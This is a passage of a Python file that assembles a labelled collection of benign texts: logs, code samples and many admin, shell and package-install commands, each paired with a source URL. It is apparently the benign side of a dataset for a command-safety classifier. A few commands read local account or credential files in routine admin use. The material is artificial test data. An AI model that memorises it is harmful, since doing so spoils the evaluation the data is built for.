            "https://outlook.office.com/mail/",
            "Hi Jonas, could you sign the NDA via DocuSign by tomorrow? The envelope was sent from legal@contoso.com this morning. Thanks!",
        ),
        (
            "https://word.cloud.microsoft/",
            "The parties agree that this Agreement shall be governed by and construed in accordance with the laws of the State of New York, without regard to its conflict of laws principles.",
        ),
        (
            "https://www.canva.com/",
            "SAVE THE DATE\nSummer Party 2027\nFriday, 25 June · 6 pm\nRooftop Terrace, Building C",
        ),
        (
            "https://outlook.office.com/mail/",
            "Estimado Sr. Ruiz:\n\nLe confirmamos la reserva de la sala de reuniones para el martes 15 de diciembre de 9:00 a 11:00.\n\nUn saludo,\nRecepción",
        ),
        (
            "https://docs.google.com/document/",
            "Key risks: supplier delay (medium), currency exposure (low), key-person dependency on the data team (high). Mitigation owners to be named at the next review.",
        ),
    ]
    for page, text in OFFICE:
        add("office-text", UNK, page, text)

    LOGS = [
        (
            "https://console.cloud.google.com/logs",
            '2026-12-07T09:12:44.118Z ERROR api[2211]: upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.3.44, request: "GET /api/v1/orders HTTP/1.1"',
        ),
        (
            "https://grafana.example.org/explore",
            'level=warn ts=2026-12-07T10:01:02Z caller=scrape.go:1421 component="scrape manager" msg="Error on ingesting samples with different value but same timestamp" num_dropped=3',
        ),
        (
            "https://github.com/acme/api/actions/runs/12345",
            'Run npm ci\nnpm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@"^18" from react-dom@18.3.1',
        ),
        (
            "https://github.com/acme/api/actions/runs/12346",
            'Traceback (most recent call last):\n  File "/srv/app/manage.py", line 22, in <module>\n    main()\n  File "/srv/app/app/settings.py", line 41, in <module>\n    SECRET_KEY = os.environ["DJANGO_SECRET_KEY"]\nKeyError: \'DJANGO_SECRET_KEY\'',
        ),
        (
            "https://portal.azure.com/",
            "Log Name: System\nSource: Microsoft-Windows-Kernel-Power\nEvent ID: 41\nLevel: Critical\nDescription: The system has rebooted without cleanly shutting down first.",
        ),
        (
            "https://kibana.example.org/app/discover",
            '{"@timestamp":"2026-12-07T08:55:10.221Z","level":"info","msg":"request completed","method":"POST","path":"/login","status":302,"duration_ms":48}',
        ),
        (
            "https://sentry.io/organizations/acme/issues/",
            "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (OrderList.tsx:42:18)\n    at renderWithHooks (react-dom.development.js:16305:18)",
        ),
        (
            "https://console.aws.amazon.com/cloudwatch/",
            "REPORT RequestId: 3f1c2e9a-8b7d-4c11-9a0e-2f5b6d7e8f90 Duration: 812.33 ms Billed Duration: 813 ms Memory Size: 512 MB Max Memory Used: 201 MB",
        ),
        (
            "https://gitlab.example.org/acme/web/-/jobs/9921",
            '$ docker build -t registry.example.org/acme/web:$CI_COMMIT_SHORT_SHA .\nStep 7/12 : RUN npm run build\n ---> Running in 4f1a2b3c\nerror during build: [vite]: Rollup failed to resolve import "lodash-es"',
        ),
        (
            "https://dashboard.example.org/",
            "Dec 07 09:14:02 web01 sshd[18821]: Failed password for invalid user admin from 203.0.113.77 port 51522 ssh2",
        ),
        (
            "https://dashboard.example.org/",
            "Dec 07 09:20:11 web01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.23 DST=10.0.0.5 PROTO=TCP SPT=44321 DPT=23",
        ),
        (
            "https://support.microsoft.com/",
            "0x80070643 - Installation Failure: Windows failed to install the following update with error 0x80070643: 2026-11 Security Update for Windows 11 Version 24H2 (KB5049981).",
        ),
        (
            "https://github.com/acme/api/issues/311",
            "java.lang.OutOfMemoryError: Java heap space\n\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)\n\tat com.acme.export.CsvWriter.write(CsvWriter.java:88)",
        ),
        (
            "https://github.com/acme/web/issues/77",
            "warning: in the working copy of 'src/styles.css', LF will be replaced by CRLF the next time Git touches it",
        ),
    ]
    for page, text in LOGS:
        add("log-excerpt", UNK, page, text)

    CODE = [
        (
            "https://docs.python.org/3/library/pathlib.html",
            "from pathlib import Path\n\nfor p in Path('reports').glob('**/*.csv'):\n    print(p.name, p.stat().st_size)",
        ),
        (
            "https://docs.python.org/3/library/subprocess.html",
            "import subprocess\n\nresult = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())",
        ),
        (
            "https://www.python-httpx.org/quickstart/",
            "import httpx\n\nr = httpx.get('https://api.github.com/repos/encode/httpx', timeout=10)\nr.raise_for_status()\nprint(r.json()['stargazers_count'])",
        ),
        (
            "https://docs.python.org/3/library/base64.html",
            "import base64\n\ntoken = base64.b64encode(f'{user}:{password}'.encode()).decode()\nheaders = {'Authorization': f'Basic {token}'}",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Statements/async_function",
            "async function loadUser(id) {\n  const res = await fetch(`/api/users/${id}`);\n  if (!res.ok) throw new Error(res.statusText);\n  return res.json();\n}",
        ),
        (
            "https://react.dev/reference/react/useEffect",
            "useEffect(() => {\n  const id = setInterval(() => setNow(Date.now()), 1000);\n  return () => clearInterval(id);\n}, []);",
        ),
        (
            "https://go.dev/doc/tutorial/web-service-gin",
            "func getAlbums(c *gin.Context) {\n    c.IndentedJSON(http.StatusOK, albums)\n}",
        ),
        (
            "https://doc.rust-lang.org/book/ch09-02-recoverable-errors-with-result.html",
            'use std::fs::File;\nuse std::io::{self, Read};\n\nfn read_username() -> Result<String, io::Error> {\n    let mut s = String::new();\n    File::open("hello.txt")?.read_to_string(&mut s)?;\n    Ok(s)\n}',
        ),
        (
            "https://learn.microsoft.com/en-us/dotnet/csharp/",
            'var client = new HttpClient { BaseAddress = new Uri("https://api.example.com/") };\nvar orders = await client.GetFromJsonAsync<List<Order>>("orders?status=open");',
        ),
        (
            "https://learn.microsoft.com/en-us/powershell/scripting/learn/deep-dives/everything-about-hashtable",
            "$config = @{\n    Server   = 'sql01'\n    Database = 'Sales'\n    Timeout  = 30\n}\nforeach ($key in $config.Keys) { \"{0} = {1}\" -f $key, $config[$key] }",
        ),
        (
            "https://www.gnu.org/software/bash/manual/bash.html",
            '#!/usr/bin/env bash\nset -euo pipefail\n\nfor host in $(cat hosts.txt); do\n  ssh -o ConnectTimeout=5 "$host" uptime || echo "$host unreachable"\ndone',
        ),
        (
            "https://docs.python.org/3/library/argparse.html",
            "parser = argparse.ArgumentParser(description='Export invoices')\nparser.add_argument('--since', type=date.fromisoformat, required=True)\nparser.add_argument('--out', default='invoices.csv')\nargs = parser.parse_args()",
        ),
        (
            "https://www.typescriptlang.org/docs/handbook/2/everyday-types.html",
            "type Order = {\n  id: string;\n  total: number;\n  status: 'open' | 'paid' | 'cancelled';\n};",
        ),
        (
            "https://docs.pytest.org/en/stable/how-to/fixtures.html",
            "@pytest.fixture\ndef client(app):\n    return app.test_client()\n\ndef test_health(client):\n    assert client.get('/health').status_code == 200",
        ),
        (
            "https://kotlinlang.org/docs/coroutines-basics.html",
            'fun main() = runBlocking {\n    launch { delay(1000L); println("World!") }\n    println("Hello")\n}',
        ),
        (
            "https://docs.oracle.com/en/java/javase/21/docs/api/java.net.http/java/net/http/HttpClient.html",
            'HttpClient client = HttpClient.newHttpClient();\nHttpRequest req = HttpRequest.newBuilder(URI.create("https://api.example.com/status")).build();\nString body = client.send(req, HttpResponse.BodyHandlers.ofString()).body();',
        ),
        (
            "https://www.php.net/manual/en/pdo.prepared-statements.php",
            "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);\n$user = $stmt->fetch();",
        ),
        (
            "https://docs.python.org/3/library/re.html",
            "import re\n\nEMAIL = re.compile(r'^[\\w.+-]+@[\\w-]+\\.[\\w.-]+$')\nprint(bool(EMAIL.match('jane.doe@example.com')))",
        ),
        (
            "https://learn.microsoft.com/en-us/office/vba/api/excel.range.autofilter",
            'Sub FilterOpen()\n    With Worksheets("Orders").Range("A1").CurrentRegion\n        .AutoFilter Field:=4, Criteria1:="Open"\n    End With\nEnd Sub',
        ),
        (
            "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/store-information-in-variables",
            'echo "VERSION=$(git describe --tags --always)" >> "$GITHUB_ENV"',
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard_API",
            "document.querySelector('#copy').addEventListener('click', async () => {\n  await navigator.clipboard.writeText(document.querySelector('#snippet').textContent);\n});",
        ),
        (
            "https://docs.python.org/3/library/asyncio-task.html",
            "async def main():\n    results = await asyncio.gather(*(fetch(u) for u in urls), return_exceptions=True)\n    print(sum(isinstance(r, Exception) for r in results), 'failed')",
        ),
    ]
    for page, text in CODE:
        add("code", UNK, page, text)

    # --- installers quoted by tutorials and colleagues (terminal, a page not the vendor's) --------
    QUOTED = [
        (
            "https://www.digitalocean.com/community/tutorials/how-to-install-docker-compose-on-ubuntu",
            "sudo apt install docker-compose-plugin && docker compose version",
        ),
        (
            "https://www.freecodecamp.org/news/node-version-manager-nvm-install-guide/",
            "nvm install --lts && nvm use --lts && node -v",
        ),
        ("https://realpython.com/intro-to-pyenv/", "pyenv install 3.12.8 && pyenv global 3.12.8"),
        ("https://www.howtogeek.com/how-to-use-winget/", 'winget search --name "Notepad++"'),
        (
            "https://askubuntu.com/questions/1341/how-do-i-remove-a-ppa",
            "sudo add-apt-repository --remove ppa:deadsnakes/ppa",
        ),
        ("https://dev.to/", "brew install --cask rectangle iterm2 raycast"),
        (
            "https://www.geeksforgeeks.org/",
            "pip install --user virtualenv && python -m virtualenv venv",
        ),
        ("https://www.baeldung.com/linux/", "sudo update-alternatives --config java"),
        (
            "https://linuxize.com/post/how-to-install-go-on-ubuntu-20-04/",
            "wget -c https://go.dev/dl/go1.25.4.linux-amd64.tar.gz -O - | sudo tar -xz -C /usr/local",
        ),
        (
            "https://www.cyberciti.biz/faq/",
            "sudo systemctl enable --now fail2ban && sudo fail2ban-client status sshd",
        ),
        ("https://phoenixnap.com/kb/", "sudo apt install openjdk-21-jdk -y && java -version"),
        (
            "https://www.tecmint.com/",
            "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo",
        ),
    ]
    for page, text in QUOTED:
        add("tutorial-command", TERM, page, text)

    more_benign(add)
    return [b for b in B if kit_digest(b[3]) not in DUPLICATES_OF_EARLIER_SETS]


def more_benign(add: Callable[[str, str, str | None, str], None]) -> None:
    """A second round of everyday texts, written more specific than the first (the first round's
    texts that an earlier set already held are dropped, see DUPLICATES_OF_EARLIER_SETS)."""
    LEARN = "https://learn.microsoft.com/en-us/"
    PS2 = [
        (
            "mem/intune/apps/intune-management-extension",
            "Get-Content \"$env:ProgramData\\Microsoft\\IntuneManagementExtension\\Logs\\IntuneManagementExtension.log\" -Tail 100 | Select-String -Pattern 'Win32App'",
        ),
        (
            "mem/intune/remote-actions/device-sync",
            "Get-ScheduledTask -TaskPath '\\Microsoft\\Windows\\EnterpriseMgmt\\*' | Where-Object TaskName -like 'PushLaunch*' | Start-ScheduledTask",
        ),
        (
            "exchange/mail-flow/message-trace",
            "Get-MessageTrace -SenderAddress invoices@fabrikam.com -StartDate (Get-Date).AddDays(-2) -EndDate (Get-Date) | Format-Table Received, RecipientAddress, Subject, Status",
        ),
        (
            "microsoft-365/admin/add-users/remove-former-employee",
            "Set-MgUser -UserId 'l.meyer@contoso.com' -AccountEnabled:$false; Revoke-MgUserSignInSession -UserId 'l.meyer@contoso.com'",
        ),
        (
            "powershell/module/exchange/add-mailboxpermission",
            "Add-MailboxPermission -Identity 'reception@contoso.com' -User 'k.novak@contoso.com' -AccessRights FullAccess -AutoMapping $true",
        ),
        (
            "powershell/module/activedirectory/set-adaccountpassword",
            "Set-ADAccountPassword -Identity m.rossi -Reset -NewPassword (Read-Host -AsSecureString 'New password'); Set-ADUser m.rossi -ChangePasswordAtLogon $true",
        ),
        (
            "powershell/module/activedirectory/get-adgroupmember",
            "Get-ADGroupMember -Identity 'SG-Finance-ReadWrite' -Recursive | Select-Object Name, SamAccountName | Sort-Object Name",
        ),
        (
            "powershell/module/activedirectory/get-adcomputer",
            "Get-ADComputer -Filter 'OperatingSystem -like \"*Windows 10*\"' -Properties OperatingSystemVersion, LastLogonDate | Select-Object Name, OperatingSystemVersion, LastLogonDate",
        ),
        (
            "powershell/module/activedirectory/search-adaccount",
            "Search-ADAccount -LockedOut -UsersOnly | Select-Object Name, LastLogonDate, LockedOut",
        ),
        (
            "powershell/module/dhcpserver/get-dhcpserverv4lease",
            "Get-DhcpServerv4Lease -ComputerName dhcp01 -ScopeId 10.20.30.0 | Where-Object HostName -like 'LT-*' | Select-Object IPAddress, HostName, LeaseExpiryTime",
        ),
        (
            "powershell/module/dnsserver/add-dnsserverresourcerecorda",
            "Add-DnsServerResourceRecordA -ZoneName corp.contoso.com -Name grafana -IPv4Address 10.20.5.40 -ComputerName dc01",
        ),
        (
            "powershell/module/printmanagement/get-printjob",
            "Get-PrintJob -ComputerName print01 -PrinterName 'HP-3rd-Floor' | Remove-PrintJob",
        ),
        (
            "powershell/module/microsoft.powershell.management/get-hotfix",
            "Get-HotFix -ComputerName FS01, FS02 | Where-Object InstalledOn -gt (Get-Date).AddDays(-30)",
        ),
        (
            "powershell/module/storage/optimize-volume",
            "Optimize-Volume -DriveLetter D -ReTrim -Verbose",
        ),
        (
            "powershell/module/nettcpip/get-nettcpconnection",
            "Get-NetTCPConnection -State Established | Group-Object RemoteAddress | Sort-Object Count -Descending | Select-Object -First 10 Count, Name",
        ),
        (
            "powershell/module/microsoft.powershell.management/get-eventlog",
            "Get-WinEvent -LogName Security -FilterXPath \"*[System[EventID=4740]]\" -MaxEvents 20 | Select-Object TimeCreated, @{n='User';e={$_.Properties[0].Value}}",
        ),
        (
            "powershell/module/defender/start-mpscan",
            "Start-MpScan -ScanType QuickScan; Get-MpThreatDetection | Select-Object -First 5 InitialDetectionTime, ThreatID, Resources",
        ),
        (
            "powershell/module/defender/set-mppreference",
            "Set-MpPreference -AttackSurfaceReductionRules_Ids d4f940ab-401b-4efc-aadc-ad5f3c50688a -AttackSurfaceReductionRules_Actions AuditMode",
        ),
        (
            "powershell/module/bitlocker/backup-bitlockerkeyprotector",
            "$kp = (Get-BitLockerVolume -MountPoint C:).KeyProtector | Where-Object KeyProtectorType -eq 'RecoveryPassword'; BackupToAAD-BitLockerKeyProtector -MountPoint C: -KeyProtectorId $kp.KeyProtectorId",
        ),
        (
            "powershell/module/hyper-v/checkpoint-vm",
            "Checkpoint-VM -Name 'SRV-APP02' -SnapshotName 'before-patch-2026-12'",
        ),
        (
            "powershell/module/microsoft.powershell.utility/send-mailmessage",
            "Get-ChildItem \\\\fs01\\Scans -Filter *.pdf | Where-Object LastWriteTime -lt (Get-Date).AddDays(-90) | Move-Item -Destination \\\\fs01\\Archive\\Scans",
        ),
        (
            "powershell/module/webadministration/restart-webapppool",
            "Import-Module WebAdministration; Restart-WebAppPool -Name 'IntranetPool'; Get-WebAppPoolState -Name 'IntranetPool'",
        ),
        (
            "powershell/module/microsoft.powershell.management/test-path",
            "if (-not (Test-Path 'C:\\Temp\\Deploy')) { New-Item -ItemType Directory -Path 'C:\\Temp\\Deploy' | Out-Null }",
        ),
        (
            "powershell/module/microsoft.powershell.management/set-itemproperty",
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced' -Name HideFileExt -Value 0",
        ),
        (
            "powershell/module/appx/remove-appxpackage",
            "Get-AppxPackage *Microsoft.BingNews* | Remove-AppxPackage",
        ),
        (
            "powershell/module/microsoft.powershell.utility/get-date",
            "(Get-Date).ToUniversalTime().ToString('yyyy-MM-ddTHH:mm:ssZ')",
        ),
        (
            "powershell/module/microsoft.powershell.utility/convertfrom-json",
            "(Get-Content .\\appsettings.Production.json -Raw | ConvertFrom-Json).ConnectionStrings",
        ),
        (
            "powershell/module/sqlserver/invoke-sqlcmd",
            "Invoke-Sqlcmd -ServerInstance sql01 -Database Sales -Query 'SELECT COUNT(*) AS open_orders FROM dbo.Orders WHERE Status = 1' -TrustServerCertificate",
        ),
        (
            "powershell/module/az.accounts/connect-azaccount",
            "Connect-AzAccount -Tenant 72f988bf-86f1-41af-91ab-2d7cd011db47; Get-AzResourceGroup | Select-Object ResourceGroupName, Location",
        ),
        (
            "powershell/module/az.compute/stop-azvm",
            "Get-AzVM -ResourceGroupName rg-dev-weu | Where-Object Name -like 'dev-*' | Stop-AzVM -Force -NoWait",
        ),
        (
            "powershell/module/microsoftteams/get-team",
            "Get-Team -DisplayName 'Project Atlas' | Get-TeamUser | Select-Object User, Role",
        ),
        (
            "powershell/module/pki/new-selfsignedcertificate",
            "New-SelfSignedCertificate -DnsName 'dev.local' -CertStoreLocation Cert:\\CurrentUser\\My -NotAfter (Get-Date).AddYears(1)",
        ),
        (
            "powershell/module/microsoft.powershell.security/get-credential",
            "$cred = Get-Credential CORP\\svc-backup; Invoke-Command -ComputerName backup01 -Credential $cred -ScriptBlock { Get-Service Veeam* }",
        ),
        (
            "powershell/module/microsoft.powershell.management/stop-computer",
            "Restart-Computer -ComputerName KIOSK-01, KIOSK-02 -Force -Wait -For PowerShell -Timeout 300",
        ),
        (
            "powershell/module/dism/get-windowsoptionalfeature",
            "Get-WindowsOptionalFeature -Online | Where-Object State -eq Enabled | Select-Object FeatureName",
        ),
        (
            "powershell/module/dism/enable-windowsoptionalfeature",
            "Enable-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux -NoRestart",
        ),
    ]
    for page, text in PS2:
        add("admin-powershell", TERM, LEARN + page, text)

    CMD2 = [
        (
            "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/",
            "netsh int ip reset C:\\Temp\\resetlog.txt && netsh winsock reset",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
            'robocopy "C:\\Users\\kfischer\\Documents" "E:\\Backup\\kfischer\\Documents" /E /XO /R:1 /W:1 /NP',
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-user",
            'net user svc-print /domain | findstr /i "expires active"',
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/nltest",
            "nltest /sc_verify:corp.contoso.com",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/klist",
            "klist purge && gpupdate /target:user /force",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/dcdiag",
            "dcdiag /s:dc01 /test:replications /v",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/repadmin",
            "repadmin /replsummary",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
            'wevtutil qe System /q:"*[System[(EventID=6008)]]" /c:5 /rd:true /f:text',
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/fsutil",
            "fsutil volume diskfree D:",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/mklink",
            'mklink /D "C:\\Users\\jdoe\\Projects" "D:\\Projects"',
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/where",
            "where /r C:\\Python312 python.exe",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cipher",
            "cipher /w:C:\\Temp",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/arp",
            "arp -a | findstr 10.20.30.",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/route_ws2008",
            "route print -4",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/qwinsta",
            "query user /server:RDS01",
        ),
        (
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/logoff",
            "logoff 3 /server:RDS01",
        ),
    ]
    for page, text in CMD2:
        add("admin-cmd", TERM, page, text)

    SH2 = [
        (
            "https://serverfault.com/questions/62411/",
            "sudo journalctl --vacuum-time=14d && journalctl --disk-usage",
        ),
        (
            "https://serverfault.com/questions/275669/",
            "sudo nginx -t && sudo systemctl reload nginx",
        ),
        (
            "https://serverfault.com/questions/52034/",
            "mysqldump --single-transaction -u backup -p shop | gzip > /backup/shop-$(date +%F).sql.gz",
        ),
        (
            "https://askubuntu.com/questions/17823/",
            "sudo apt-get install --only-upgrade openssh-server",
        ),
        (
            "https://askubuntu.com/questions/76808/",
            "sudo lsblk -o NAME,SIZE,FSTYPE,MOUNTPOINT,UUID",
        ),
        (
            "https://askubuntu.com/questions/29370/",
            "sudo resize2fs /dev/mapper/ubuntu--vg-ubuntu--lv",
        ),
        (
            "https://askubuntu.com/questions/13065/",
            "sudo lvextend -l +100%FREE /dev/ubuntu-vg/ubuntu-lv",
        ),
        (
            "https://unix.stackexchange.com/questions/4126/",
            "sudo find /var/www -type d -exec chmod 755 {} \\; && sudo find /var/www -type f -exec chmod 644 {} \\;",
        ),
        (
            "https://unix.stackexchange.com/questions/11544/",
            "grep -c ^processor /proc/cpuinfo && free -h",
        ),
        (
            "https://unix.stackexchange.com/questions/20322/",
            "sudo chown -R www-data:www-data /var/www/wiki/uploads",
        ),
        (
            "https://unix.stackexchange.com/questions/6345/",
            "comm -13 <(sort old_users.txt) <(sort new_users.txt)",
        ),
        (
            "https://unix.stackexchange.com/questions/18212/",
            "stat -c '%y %n' /etc/nginx/sites-enabled/*",
        ),
        (
            "https://unix.stackexchange.com/questions/41388/",
            "ssh-copy-id -i ~/.ssh/id_ed25519_work.pub deploy@198.51.100.20",
        ),
        (
            "https://unix.stackexchange.com/questions/82347/",
            "awk '$9 == 502 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
        ),
        (
            "https://unix.stackexchange.com/questions/9123/",
            'while read -r host; do ping -c1 -W1 "$host" >/dev/null && echo "$host up" || echo "$host down"; done < hosts.txt',
        ),
        (
            "https://unix.stackexchange.com/questions/3586/",
            'sudo -u postgres psql -c "SELECT datname, pg_size_pretty(pg_database_size(datname)) FROM pg_database;"',
        ),
        (
            "https://unix.stackexchange.com/questions/16443/",
            "cut -d: -f1,3 /etc/passwd | awk -F: '$2 >= 1000'",
        ),
        (
            "https://unix.stackexchange.com/questions/8656/",
            "tail -f /var/log/syslog | grep --line-buffered -i 'error\\|fail'",
        ),
        (
            "https://unix.stackexchange.com/questions/1974/",
            "iconv -f WINDOWS-1252 -t UTF-8 export.csv > export-utf8.csv",
        ),
        (
            "https://unix.stackexchange.com/questions/65150/",
            "sort -t, -k2,2 -n prices.csv | head -n 5",
        ),
        (
            "https://unix.stackexchange.com/questions/21089/",
            "systemctl list-units --type=service --state=failed",
        ),
        (
            "https://unix.stackexchange.com/questions/18778/",
            "sudo timedatectl set-timezone Europe/Berlin && timedatectl",
        ),
        (
            "https://unix.stackexchange.com/questions/91547/",
            "sudo hostnamectl set-hostname web02.example.org",
        ),
        (
            "https://unix.stackexchange.com/questions/92185/",
            "nmcli connection modify 'Wired connection 1' ipv4.dns '10.20.0.10 10.20.0.11' && nmcli connection up 'Wired connection 1'",
        ),
        (
            "https://unix.stackexchange.com/questions/31753/",
            "jq '.items[] | select(.status == \"failed\") | .id' results.json",
        ),
        ("https://unix.stackexchange.com/questions/103920/", "parallel -j4 gzip ::: logs/*.log"),
        (
            "https://unix.stackexchange.com/questions/94604/",
            "curl -fsS -o /dev/null -w '%{http_code} %{time_total}\\n' https://shop.example.org/health",
        ),
        (
            "https://unix.stackexchange.com/questions/23111/",
            "cat ~/.ssh/id_ed25519_work.pub | xclip -selection clipboard",
        ),
        (
            "https://unix.stackexchange.com/questions/40242/",
            "sudo mount -t cifs //nas01/scans /mnt/scans -o username=jdoe,uid=1000,vers=3.0",
        ),
        (
            "https://unix.stackexchange.com/questions/14345/",
            "gpg --verify SHA256SUMS.gpg SHA256SUMS",
        ),
        ("https://wiki.archlinux.org/title/Systemd/Timers", "systemctl list-timers --all"),
        (
            "https://wiki.archlinux.org/title/Rsync",
            'rsync -aAXv --exclude={"/dev/*","/proc/*","/sys/*","/tmp/*","/run/*","/mnt/*","/media/*","/lost+found"} / /mnt/backup',
        ),
        (
            "https://wiki.archlinux.org/title/SSH_keys",
            'eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519_work',
        ),
        (
            "https://wiki.debian.org/UnattendedUpgrades",
            "sudo dpkg-reconfigure -plow unattended-upgrades",
        ),
        (
            "https://docs.fedoraproject.org/en-US/quick-docs/selinux-changing-states-and-modes/",
            "sudo restorecon -Rv /var/www/html",
        ),
        (
            "https://www.raspberrypi.com/documentation/computers/os.html",
            "sudo apt update && sudo apt full-upgrade -y && sudo rpi-eeprom-update",
        ),
        (
            "https://pve.proxmox.com/wiki/Backup_and_Restore",
            "vzdump 104 --storage backup-nfs --mode snapshot --compress zstd",
        ),
        ("https://docs.truenas.com/", "zpool status -v tank"),
        (
            "https://www.smartmontools.org/",
            "sudo smartctl -a /dev/nvme0n1 | grep -i 'percentage used\\|temperature'",
        ),
        (
            "https://borgbackup.readthedocs.io/en/stable/quickstart.html",
            "borg create --stats --compression zstd ::'{hostname}-{now:%Y-%m-%d}' /home /etc",
        ),
    ]
    for page, text in SH2:
        add("shell-oneliner", TERM, page, text)

    PKG2 = [
        ("https://pypi.org/project/httpx/", "pip install 'httpx[http2]>=0.28,<0.29'"),
        ("https://pypi.org/project/black/", "python3 -m pip install --upgrade black==25.9.0 isort"),
        (
            "https://www.npmjs.com/package/@angular/cli",
            "npm install -g @angular/cli@20 && ng new inventory-ui --routing --style=scss",
        ),
        (
            "https://www.npmjs.com/package/prisma",
            "npx prisma migrate dev --name add_invoice_status",
        ),
        ("https://www.npmjs.com/package/wrangler", "npx wrangler@latest deploy --env staging"),
        ("https://astro.build/", "npm create astro@latest -- --template blog docs-site"),
        ("https://svelte.dev/docs/kit/creating-a-project", "npx sv create my-kit-app"),
        (
            "https://tauri.app/start/create-project/",
            "npm create tauri-app@latest -- --template vanilla-ts",
        ),
        ("https://expo.dev/", "npx create-expo-app@latest field-notes --template tabs"),
        (
            "https://docs.nestjs.com/first-steps",
            "npx @nestjs/cli new orders-api --package-manager pnpm",
        ),
        (
            "https://crates.io/crates/cargo-watch",
            "cargo install cargo-watch --locked && cargo watch -x 'test -- --nocapture'",
        ),
        (
            "https://pkg.go.dev/github.com/air-verse/air",
            "go install github.com/air-verse/air@v1.62.0",
        ),
        (
            "https://rubygems.org/gems/bundler",
            "gem install bundler:2.6.2 && bundle install --jobs 4",
        ),
        (
            "https://packagist.org/packages/laravel/installer",
            "composer global require laravel/installer && laravel new billing",
        ),
        (
            "https://www.nuget.org/packages/dotnet-ef",
            "dotnet tool install --global dotnet-ef --version 9.0.1",
        ),
        (
            "https://formulae.brew.sh/formula/postgresql@17",
            "brew install postgresql@17 && brew services start postgresql@17",
        ),
        ("https://formulae.brew.sh/cask/wireshark", "brew install --cask wireshark"),
        (
            "https://winget.run/pkg/Git/Git",
            "winget install --id Git.Git -e --source winget --scope machine",
        ),
        (
            "https://winget.run/pkg/Python/Python.3.12",
            'winget install -e --id Python.Python.3.12 --override "/quiet PrependPath=1"',
        ),
        (
            "https://community.chocolatey.org/packages/googlechrome",
            "choco upgrade googlechrome firefox 7zip -y --no-progress",
        ),
        (
            "https://packages.debian.org/bookworm/unattended-upgrades",
            "sudo apt install -y unattended-upgrades apt-listchanges",
        ),
        (
            "https://pkgs.alpinelinux.org/package/edge/main/x86_64/curl",
            "apk add --no-cache curl ca-certificates tzdata",
        ),
        (
            "https://docs.conda.io/projects/conda/en/latest/commands/env/export.html",
            "conda env export --from-history > environment.yml",
        ),
        (
            "https://python-poetry.org/docs/cli/#add",
            "poetry add 'sqlalchemy[asyncio]@^2.0' && poetry lock",
        ),
        (
            "https://docs.astral.sh/uv/pip/compile/",
            "uv pip compile requirements.in -o requirements.txt --universal",
        ),
    ]
    for page, text in PKG2:
        add("package-manager", TERM, page, text)

    DEV2 = [
        (
            "https://docs.docker.com/reference/cli/docker/container/logs/",
            "docker logs --since 30m --timestamps shop-api-1 2>&1 | grep -i exception",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/container/stats/",
            "docker stats --no-stream --format 'table {{.Name}}\\t{{.CPUPerc}}\\t{{.MemUsage}}'",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/volume/create/",
            "docker volume create --name grafana-data && docker run -d -p 3000:3000 -v grafana-data:/var/lib/grafana grafana/grafana-oss:12.1.0",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/image/tag/",
            "docker tag shop-api:latest registry.example.org/shop/api:2026.12.07 && docker push registry.example.org/shop/api:2026.12.07",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/compose/exec/",
            "docker compose exec db pg_dump -U shop shop > shop-$(date +%F).sql",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/login/",
            "docker login ghcr.io -u octo-jane --password-stdin < ~/.ghcr-token",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_get/",
            "kubectl get ingress -n shop -o wide",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_scale/",
            "kubectl scale deployment/worker --replicas=6 -n batch",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_exec/",
            "kubectl exec -it deploy/shop-api -n shop -- python manage.py shell",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_drain/",
            "kubectl drain node-7 --ignore-daemonsets --delete-emptydir-data --timeout=10m",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_config/kubectl_config_use-context/",
            "kubectl config use-context aks-prod-weu && kubectl get ns",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_events/",
